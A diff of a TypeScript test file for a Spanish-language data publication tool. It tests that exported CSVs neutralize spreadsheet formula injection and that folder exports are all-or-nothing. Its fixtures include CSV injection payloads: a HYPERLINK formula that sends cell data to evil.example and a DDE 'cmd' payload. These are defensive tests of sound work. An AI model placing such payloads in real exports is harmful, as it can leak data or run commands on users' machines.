@@ -1,8 +1,9 @@
 import {execFile} from "node:child_process";
 import {existsSync} from "node:fs";
-import {mkdtemp, readFile, readdir} from "node:fs/promises";
+import * as fs from "node:fs/promises";
+import {mkdir, mkdtemp, readFile, readdir, writeFile} from "node:fs/promises";
 import {tmpdir} from "node:os";
-import {join} from "node:path";
+import {basename, join} from "node:path";
 import {promisify} from "node:util";
 import JSZip from "jszip";
 import {describe, expect, it} from "vitest";
@@ -11,7 +12,22 @@ import {fromParquet, toParquet} from "../loaders/publish/parquet.js";
 import {outputTables, publishedTableDefs} from "../loaders/publish/outputs.js";
 import {loadRegistry} from "../loaders/registry/registry.js";
 import {SCHEMA, TABLE_NAMES} from "../metrics/model/schema.js";
-import {mutatedRegistry} from "./helpers/registry-fixture.js";
+import {mutatedRegistry, VALID_FIXTURE} from "./helpers/registry-fixture.js";
+import {rowsToCsv} from "../loaders/publish/csv-write.js";
+import {publishedFiles} from "../loaders/publish/publish.js";
+import {ExportError, type FolderOps, writeExportFolder} from "../loaders/publish/export-folder.js";
+import {parseCsv} from "../loaders/registry/csv-parse.js";
+import {runsAsFormula, unprotectCell} from "../loaders/formula.js";
+import type {Provenance} from "../loaders/registry/registry-source.js";
+import {publishStableDownloads} from "../scripts/stable-downloads.js";
+
+const PROVENANCE: Provenance = {
+  origen: "incluido",
+  url: null,
+  aviso: null,
+  fecha_registro: null,
+  fecha_construccion: "2026-12-03T00:00:00.000Z"
+};
 
 const run = promisify(execFile);
 const ALL_TABLES = publishedTableDefs().map((t) => t.name);
@@ -103,7 +119,7 @@ describe("npm run export -- --out DIR", () => {
       'hitos.csv:2:55 (fecha_max) valor "2015-03-32": se esperaba una fecha real AAAA-MM-DD'
     );
     expect(existsSync(out)).toBe(false);
-    expect((await readdir(join(out, ".."))).filter((f) => f.startsWith(".exportacion-"))).toEqual([]);
+    expect(await readdir(join(out, ".."))).toEqual([]);
   });
 });
 
@@ -143,5 +159,152 @@ describe("generated files (npm run generate)", () => {
     const result = await run("node", ["--import", "tsx", "scripts/generate.ts", "--check"]).catch((e) => e);
     expect(result.stderr ?? "").toBe("");
     expect(result.code ?? 0).toBe(0);
+  });
+});
+
+describe("published CSVs cannot run a formula in Excel or LibreOffice (issue 15)", () => {
+  it("rowsToCsv writes formula-like text with an apostrophe in front; numbers, negative ones too, stay numbers", () => {
+    const columns = [
+      {name: "titulo", type: "text"},
+      {name: "diferencia", type: "integer"},
+      {name: "fecha", type: "date"}
+    ] as const;
+    expect(
+      rowsToCsv(columns, [
+        {titulo: '=HYPERLINK("http://evil.example/?d="&A1,"Ver fuente")', diferencia: -3, fecha: "2015-03-09"},
+        {titulo: "\t@SUM(A1)", diferencia: 2, fecha: null},
+        {titulo: "'ya con apóstrofo", diferencia: null, fecha: null}
+      ])
+    ).toBe(
+      'titulo,diferencia,fecha\n"\'=HYPERLINK(""http://evil.example/?d=""&A1,""Ver fuente"")",-3,2015-03-09\n\'\t@SUM(A1),2,\n\'\'ya con apóstrofo,,\n'
+    );
+  });
+
+  it("whatever text reaches the publication (registry or derived tables), no CSV cell runs as a formula; Parquet keeps the value", async () => {
+    const registry = await loadRegistry(VALID_FIXTURE);
+    const evil = ['=HYPERLINK("http://evil.example/","x")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\r=1"];
+    registry.compromisos[0] = {...registry.compromisos[0], titulo: evil[0], tema: evil[1]};
+    registry.entidades[0] = {...registry.entidades[0], nombre_corto: evil[2]};
+    registry.fuentes[0] = {...registry.fuentes[0], titulo: evil[3], emisor: evil[4]};
+    const files = publishedFiles(registry, {...PROVENANCE}, {csv: true});
+    const seen = new Set<string>();
+    for (const f of files.filter((x) => x.name.endsWith(".csv"))) {
+      const {records} = parseCsv(new TextDecoder().decode(f.bytes).slice(1), f.name);
+      for (const r of records)
+        for (const v of r.fields) {
+          expect(runsAsFormula(v), `${f.name}: ${v}`).toBe(false);
+          if (evil.includes(unprotectCell(v)) && v !== unprotectCell(v)) seen.add(unprotectCell(v));
+        }
+    }
+    expect([...seen].sort()).toEqual([...evil].sort());
+    const parquet = fromParquet(files.find((f) => f.name === "compromisos.parquet")!.bytes);
+    expect(parquet[0].titulo).toBe(evil[0]);
+  });
+
+  it("the build's stable downloads refuse a CSV member that would run a formula, naming file, line and column", async () => {
+    const site = await mkdtemp(join(tmpdir(), "sitio-"));
+    const zip = new JSZip();
+    zip.file("hitos.csv", "\uFEFFhito_id,cita\nh1,=1+1\n");
+    zip.file("hitos.parquet", new Uint8Array([1]));
+    zip.file("construccion.json", JSON.stringify({fecha_construccion: "x", fecha_registro: null, filas: {hitos: 1}}));
+    await mkdir(join(site, "_file/data"), {recursive: true});
+    await writeFile(join(site, "_file/data/registro.0123abcd.zip"), await zip.generateAsync({type: "uint8array"}));
+    await expect(publishStableDownloads(site)).rejects.toThrow(
+      'hitos.csv:2:4: la celda "=1+1" se ejecutaría como fórmula en Excel o LibreOffice; la publicación debe escribirla con un apóstrofo delante (loaders/publish/csv-write.ts)'
+    );
+  });
+});
+
+describe("the export is all-or-nothing (issue 15)", () => {
+  const file = (name: string, text: string) => ({name, bytes: new TextEncoder().encode(text)});
+  const NEW = [file("hitos.csv", "nuevo"), file("construccion.json", '{"nueva": true}')];
+
+  /** A folder holding a previous export: its files and their text. */
+  async function oldExport(extra: Record<string, string> = {}): Promise<string> {
+    const dir = join(await mkdtemp(join(tmpdir(), "exportacion-")), "salida");
+    await mkdir(dir);
+    for (const [name, text] of Object.entries({"hitos.csv": "viejo", "construccion.json": "{}", ...extra}))
+      await writeFile(join(dir, name), text);
+    return dir;
+  }
+  const contents = async (dir: string) =>
+    Object.fromEntries(
+      await Promise.all((await readdir(dir)).sort().map(async (n) => [n, await readFile(join(dir, n), "utf8")]))
+    );
+  const leftovers = async (dir: string) => (await readdir(join(dir, ".."))).filter((n) => n !== "salida");
+
+  it("replaces a previous export whole: a table that is no longer published does not stay behind", async () => {
+    const dir = await oldExport({"tabla_vieja.csv": "x"});
+    await writeExportFolder(dir, NEW);
+    expect(await contents(dir)).toEqual({"construccion.json": '{"nueva": true}', "hitos.csv": "nuevo"});
+    expect(await leftovers(dir)).toEqual([]);
+  });
+
+  it("a failure while swapping (a file locked by Excel) leaves the old export as it was, says what to do in Spanish", async () => {
+    const dir = await oldExport();
+    const before = await contents(dir);
+    const locked: FolderOps = {
+      ...fs,
+      rename: (async (from: string, to: string) => {
+        if (to === dir && basename(String(from)).includes("-nueva-"))
+          throw Object.assign(new Error("EBUSY: resource busy or locked"), {code: "EBUSY"});
+        return fs.rename(from, to);
+      }) as typeof fs.rename
+    };
+    const error = await writeExportFolder(dir, NEW, locked).catch((e) => e);
+    expect(error).toBeInstanceOf(ExportError);
+    expect(error.message).toBe(
+      `No se pudo exportar: al poner la exportación nueva en su lugar ${dir}, un archivo de la carpeta está abierto en otro programa (¿Excel?): ciérrelo y vuelva a exportar, o elija otra carpeta con --out (EBUSY). No se escribió nada: la carpeta quedó como estaba.`
+    );
+    expect(await contents(dir)).toEqual(before);
+    expect(await leftovers(dir)).toEqual([]);
+  });
+
+  it("a failure while writing a file leaves the old export as it was and names the file", async () => {
+    const dir = await oldExport();
+    const before = await contents(dir);
+    const full: FolderOps = {
+      ...fs,
+      writeFile: (async (path: string, bytes: Uint8Array) => {
+        if (basename(String(path)) === "construccion.json")
+          throw Object.assign(new Error("ENOSPC: no space left on device"), {code: "ENOSPC"});
+        return fs.writeFile(path, bytes);
+      }) as typeof fs.writeFile
+    };
+    const error = await writeExportFolder(dir, NEW, full).catch((e) => e);
+    expect(error.message).toBe(
+      `No se pudo exportar: al escribir el archivo ${join(dir, "construccion.json")}, el disco está lleno: libere espacio y vuelva a exportar (ENOSPC). No se escribió nada: la carpeta quedó como estaba.`
+    );
+    expect(await contents(dir)).toEqual(before);
+    expect(await leftovers(dir)).toEqual([]);
+  });
+
+  it("refuses, before writing anything, a path that is a file or a folder holding something other than an export", async () => {
+    const dir = await oldExport();
+    await writeFile(join(dir, "..", "archivo"), "x");
+    await expect(writeExportFolder(join(dir, "..", "archivo"), NEW)).rejects.toThrow(
+      `No se pudo exportar: ${join(dir, "..", "archivo")} existe y no es una carpeta. Elija otra carpeta con --out, o mueva o borre ese archivo. No se escribió nada: la carpeta quedó como estaba.`
+    );
+    const documents = join(dir, "..", "documentos");
+    await mkdir(documents);
+    await writeFile(join(documents, "informe.docx"), "x");
+    await expect(writeExportFolder(documents, NEW)).rejects.toThrow(
+      `No se pudo exportar: la carpeta ${documents} tiene archivos que no son de una exportación (informe.docx; no tiene construccion.json) y la exportación reemplaza la carpeta completa. Elija una carpeta nueva o vacía con --out. No se escribió nada: la carpeta quedó como estaba.`
+    );
+    expect(await readdir(documents)).toEqual(["informe.docx"]);
+  });
+
+  it("npm run export with a folder in the way: exit 2, the path and what to do in Spanish, no EISDIR, old export intact", async () => {
+    const dir = await oldExport();
+    await mkdir(join(dir, "hitos.parquet"));
+    const failed = await run("node", ["--import", "tsx", "scripts/export.ts", "--out", dir]).catch((e) => e);
+    expect(failed.code).toBe(2);
+    expect(failed.stderr).toBe(
+      `Error: No se pudo exportar: ${join(dir, "hitos.parquet")} es una carpeta (o no es un archivo común) y la exportación reemplaza la carpeta ${dir} completa. Muévala fuera de ${dir} o elija otra carpeta con --out. No se escribió nada: la carpeta quedó como estaba.\n`
+    );
+    expect(failed.stderr).not.toContain("EISDIR");
+    expect(await readFile(join(dir, "hitos.csv"), "utf8")).toBe("viejo");
+    expect((await fs.lstat(join(dir, "hitos.parquet"))).isDirectory()).toBe(true);
+    expect(await leftovers(dir)).toEqual([]);
   });
 });
